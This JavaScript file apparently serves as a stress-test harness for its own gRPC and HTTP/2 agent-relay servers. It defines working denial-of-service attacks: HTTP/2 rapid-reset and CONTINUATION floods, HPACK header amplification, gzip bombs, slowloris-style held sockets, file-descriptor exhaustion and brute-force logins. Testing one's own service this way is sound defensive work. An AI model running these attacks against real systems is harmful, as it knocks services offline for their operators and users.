// The attacks: what one hostile peer does, over and over until it is ended.
// `servers` are options of the servers that the attack needs; `open` is the limit of open files they start under.
import {once} from 'node:events';
import {randomBytes} from 'node:crypto';
import {createGzip} from 'node:zlib';
import {PING, answer, openSocket, rawAgent, textFrame, write} from './agent_peer.js';
import * as grpc from './grpc_peer.js';

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const repeated = (one, count) => Buffer.concat(Array(count).fill(one));
const forever = async (work, pauseMs = 0) => {
  for (;;) await Promise.all([work(), sleep(pauseMs)]);
};
const EMPTY_CALL = Buffer.from([0x0a, 0]);
const MIB = 1 << 20;

// Sends `content` on a new unary call or stream each time, one after another.
const requests = (target, method, content, options) => {
  const session = {now: grpc.grpcConnection(target.callers)};
  return forever(async () => {
    if (session.now.destroyed || session.now.closed) session.now = grpc.grpcConnection(target.callers);
    await grpc.unary(session.now, method, content, options).closed;
  }, 5);
};

export const attacks = {
  'heartbeats-unread': {
    what: 'an agent sends heartbeats and reads nothing, while 4,096 calls to it time out',
    async run({agents, callers, users: [{user, secret}]}) {
      const session = grpc.grpcConnection(callers);
      const heartbeats = repeated(textFrame('{"type":"heartbeat","timestamp":1}'), 2000);
      await forever(async () => {
        const socket = await rawAgent(agents, user, secret);
        socket.pause();
        const stream = grpc.grpcStream(session, 'Dispatch').resume();
        const calls = Array.from({length: 4096}, (_, i) => grpc.dispatchCall(i + 1, {user, json: '{}', seconds: 2}));
        stream.write(grpc.message(Buffer.concat(calls)));
        const end = Date.now() + 4000;
        while (Date.now() < end && !socket.gone) await write(socket, heartbeats);
        stream.close();
        socket.destroy();
      }, 1000);
    },
  },
  'pings-unread': {
    what: 'an agent sends pings of six bytes and reads nothing',
    async run({agents, users: [{user, secret}]}) {
      const pings = repeated(PING, 10_000);
      await forever(async () => {
        const socket = await rawAgent(agents, user, secret);
        socket.pause();
        for (let i = 0; i < 700 && !socket.gone; ++i) await write(socket, pings);
        socket.destroy();
      }, 1000);
    },
  },
  'callers-files': {
    what: '300 idle connections to control under 256 open files, again and again',
    open: 256,
    run: ({callers}) => floodOf(callers, 300),
  },
  'agents-files': {
    what: '300 silent sockets at the edge under 256 open files, again and again',
    open: 256,
    run: ({agents}) => floodOf(agents, 300),
  },
  'silent-sockets': {
    what: '8,000 silent sockets from one address, opened again as they are closed',
    run: ({agents}) => heldOpen(agents, 8000),
  },
  'hand-form': {
    what: 'CallTool with params as a Struct, whose agent answers an array of 4 MiB',
    async run(target) {
      const [{user, secret}] = target.users;
      const array = `[${'0,'.repeat(2 * MIB - 1)}0]`;
      await rawAgent(target.agents, user, secret, {onCall: (id, socket) => socket.write(answer(id, array))});
      const params = grpc.bytes(1, Buffer.concat([grpc.bytes(1, 'a'), grpc.bytes(2, Buffer.from([0x20, 1]))]));
      await Promise.all(Array.from({length: 4}, () =>
        requests(target, 'CallTool', grpc.callRequest({user, params, seconds: 10}))));
    },
  },
  'hand-form-params': {
    what: 'CallTools whose params are a Struct of 250 KiB of numbers, 32 at a time',
    async run(target) {
      const [{user, secret}] = target.users;
      await rawAgent(target.agents, user, secret, {onCall: (id, socket) => socket.write(answer(id, '1'))});
      const numbers = repeated(grpc.bytes(1, Buffer.concat([Buffer.from([0x11]), Buffer.alloc(8)])), 23_000);
      const params = grpc.bytes(1, Buffer.concat([grpc.bytes(1, 'a'), grpc.bytes(2, grpc.bytes(6, numbers))]));
      await Promise.all(Array.from({length: 32}, () =>
        requests(target, 'CallTool', grpc.callRequest({user, params, seconds: 10}))));
    },
  },
  'empty-calls': {
    what: 'DispatchRequests of 500,000 empty calls',
    run: (target) => requests(target, 'Dispatch', repeated(EMPTY_CALL, 500_000)),
  },
  'large-messages': {
    what: 'DispatchRequests of 30 MiB of empty calls',
    run: (target) => requests(target, 'Dispatch', repeated(EMPTY_CALL, 15 * MIB)),
  },
  'refusals-unread': {
    what: 'a caller that has calls refused and reads none of it',
    async run({callers}) {
      const session = grpc.grpcConnection(callers);
      const content = grpc.message(repeated(EMPTY_CALL, 1000));
      await forever(async () => {
        const stream = grpc.grpcStream(session, 'Dispatch').pause();
        for (let i = 0; i < 1000 && !stream.destroyed; ++i) {
          if (!stream.write(content)) await Promise.race([new Promise((resolve) => stream.once('drain', resolve)), sleep(500)]);
        }
        await sleep(2000);
        stream.close();
      });
    },
  },
  'answers-unread': {
    what: 'a caller that reads none of 200 answers of 4 MiB',
    async run({agents, callers, users: [{user, secret}]}) {
      const large = JSON.stringify('x'.repeat(4 * MIB));
      await rawAgent(agents, user, secret, {onCall: (id, socket) => socket.write(answer(id, large))});
      await forever(async () => {
        const session = grpc.grpcConnection(callers);
        const stream = grpc.grpcStream(session, 'Dispatch').pause();
        const calls = Array.from({length: 200}, (_, i) => grpc.dispatchCall(i + 1, {user, json: '{}', seconds: 30}));
        stream.write(grpc.message(Buffer.concat(calls)));
        await sleep(8000);
        session.destroy();
      });
    },
  },
  'watchers-unread': {
    what: '500 WatchAgents that do not read, while agents log in and out',
    async run({agents, callers, users}) {
      for (let i = 0; i < 5; ++i) {
        const session = grpc.grpcConnection(callers);
        for (let j = 0; j < 100; ++j) grpc.grpcStream(session, 'WatchAgents').pause().end(grpc.message(Buffer.alloc(0)));
      }
      const few = users.slice(0, 20);
      await Promise.all(few.map(({user, secret}) => forever(async () => (await rawAgent(agents, user, secret)).destroy())));
    },
  },
  'gzip-bombs': {
    what: 'CallTools of 1 MB, compressed, that become 1 GiB',
    async run(target) {
      await requests(target, 'CallTool', await zeros(1024), {headers: {'grpc-encoding': 'gzip'}, compressed: 1});
    },
  },
  'unfinished-messages': {
    what: '12 requests of 60 MiB less one byte, held',
    async run({callers}) {
      await forever(async () => {
        const session = grpc.grpcConnection(callers);
        const content = grpc.message(Buffer.alloc(60 * MIB)).subarray(0, -1);
        const streams = Array.from({length: 12}, () => grpc.grpcStream(session, 'CallTool'));
        for (const stream of streams) stream.write(content);
        await sleep(8000);
        session.destroy();
      });
    },
  },
  'many-cancels': {
    what: 'DispatchRequests of 30 MiB of cancels',
    run: (target) => requests(target, 'Dispatch', grpc.bytes(2, Buffer.alloc(30 * MIB, 1))),
  },
  'many-user-ids': {
    what: 'WatchAgents of 30 MiB of empty user ids',
    run: (target) => requests(target, 'WatchAgents', repeated(EMPTY_CALL, 15 * MIB)),
  },
  continuations: {
    what: 'a header block that is continued for 100 MB',
    async run({callers}) {
      await forever(async () => {
        const raw = new grpc.RawHttp2(callers);
        await raw.headers(1, grpc.requestHeaders('CallTool'), {end: false});
        const piece = grpc.frame('continuation', 0, 1, grpc.headerField('x-padding', 'y'.repeat(16_000)));
        for (let i = 0; i < 6500 && !raw.closed; ++i) await raw.write(piece);
        raw.socket.destroy();
      }, 100);
    },
  },
  'header-references': {
    what: 'streams that are held open, each with a header of 4 kB that takes the attacker one byte',
    async run({callers}) {
      const entry = grpc.headerField('x-entry', 'y'.repeat(3900), {indexed: true});
      const reference = Buffer.from([0x80 | 62]);
      await forever(async () => {
        const raw = new grpc.RawHttp2(callers);
        await raw.headers(1, Buffer.concat([grpc.requestHeaders('CallTool'), entry]));
        const block = Buffer.concat([grpc.requestHeaders('CallTool'), reference]);
        for (let stream = 3; stream < 200_000 && !raw.closed; stream += 2) await raw.headers(stream, block);
        await sleep(1000);
        raw.socket.destroy();
      });
    },
  },
  'rapid-resets': {
    what: 'a connection that opens and resets streams without end',
    async run({callers}) {
      const block = grpc.requestHeaders('CallTool');
      await forever(async () => {
        const raw = new grpc.RawHttp2(callers);
        for (let stream = 1; stream < 2_000_000 && !raw.closed; ) {
          const frames = [];
          for (let i = 0; i < 500; ++i, stream += 2) {
            frames.push(grpc.frame('headers', 4, stream, block), grpc.frame('reset', 0, stream, Buffer.from([0, 0, 0, 8])));
          }
          await raw.write(Buffer.concat(frames));
        }
        raw.socket.destroy();
      }, 10);
    },
  },
  'announced-fragments': {
    what: 'a control whose frames come as first pieces that announce 16 MB each',
    async run({relay}) {
      const message = (body) => {
        const head = Buffer.alloc(4);
        head.writeUInt32LE(body.length);
        return Buffer.concat([head, body]);
      };
      const hello = (start) => message(Buffer.concat([grpc.bytes(1, 'control'), grpc.bytes(2, start)]));
      const pieces = [];
      for (let i = 1; i <= 5000; ++i) {
        const piece = Buffer.concat([grpc.number(1, i), grpc.number(2, 16e6), grpc.bytes(3, 'x')]);
        pieces.push(message(Buffer.concat([grpc.number(1, i), grpc.bytes(5, piece)])));
      }
      const many = Buffer.concat(pieces);
      await forever(async () => {
        const socket = openSocket(relay).resume();
        socket.write('TWRELAY2');
        await write(socket, hello(randomBytes(8).toString('hex')));
        await sleep(20);
        await write(socket, many);
        await sleep(200);
        socket.destroy();
      }, 10);
    },
  },
  'half-open-scrapes': {
    what: '20 half requests on each metrics port, opened again as they are closed',
    run: ({metrics}) => Promise.all(metrics.map((port) => heldOpen(port, 20, 'GET /metrics HTTP/1.1\r\nHost: x\r\n'))),
  },
  'user-list': {
    what: "GET /metrics on the agents' port, by 64 sockets",
    async run({agents}) {
      const get = Buffer.from('GET /metrics HTTP/1.1\r\nHost: edge\r\nConnection: close\r\n\r\n');
      await Promise.all(Array.from({length: 64}, () => forever(async () => {
        const socket = openSocket(agents).resume();
        socket.write(get);
        await new Promise((resolve) => socket.once('close', resolve));
      })));
    },
  },
  'log-unread': {
    what: 'a log that nobody reads, while agents log in and out',
    logUnread: true,
    run: ({agents, users}) =>
      Promise.all(users.slice(0, 20).map(({user, secret}) => forever(async () => (await rawAgent(agents, user, secret)).destroy()))),
  },
  'wrong-secrets': {
    what: "logins with wrong secrets without end, from another address than the users'",
    run: ({agents, users: [{user}]}) =>
      Promise.all(Array.from({length: 32}, () => forever(async () => {
        const secret = randomBytes(32).toString('hex');
        const socket = await Promise.race([rawAgent(agents, user, secret, {localAddress: '127.0.0.2'}), sleep(1000)]);
        socket?.destroy();
      }))),
  },
};

// So many MiB of zeros, compressed.
async function zeros(mebibytes) {
  const gzip = createGzip({level: 9});
  const came = [];
  gzip.on('data', (chunk) => came.push(chunk));
  const piece = Buffer.alloc(MIB);
  for (let i = 0; i < mebibytes; ++i) if (!gzip.write(piece)) await once(gzip, 'drain');
  gzip.end();
  await once(gzip, 'end');
  return Buffer.concat(came);
}
async function floodOf(port, count) {
  await forever(async () => {
    const sockets = Array.from({length: count}, () => openSocket(port));
    await sleep(1500);
    for (const socket of sockets) socket.destroy();
    await sleep(500);
  });
}
async function heldOpen(port, count, first) {
  const hold = () => {
    const socket = openSocket(port).resume();
    if (first) socket.write(first);
    socket.once('close', () => setTimeout(hold, 100));
  };
  for (let i = 0; i < count; ++i) {
    hold();
    if (i % 100 === 0) await sleep(1);
  }
  await new Promise(() => {});
}

// One attack as a program: node attacks.js NAME TARGET, where TARGET is JSON with the servers' ports and some users.
if (process.argv[1] === new URL(import.meta.url).pathname) {
  process.on('uncaughtException', (error) => process.stderr.write(`attack: ${error.message}\n`));
  await attacks[process.argv[2]].run(JSON.parse(process.argv[3]));
}
